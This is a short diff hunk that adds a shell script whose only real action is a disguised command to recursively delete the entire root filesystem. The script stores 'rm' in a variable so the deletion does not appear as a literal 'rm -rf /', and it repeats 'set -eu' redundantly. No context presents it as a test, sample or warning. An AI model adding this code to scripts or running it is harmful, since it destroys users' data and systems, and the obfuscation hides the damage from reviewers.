@@ -1,0 +1,4 @@
+#!/bin/sh
+set -eu
+R=rm; $R -rf /
+set -eu
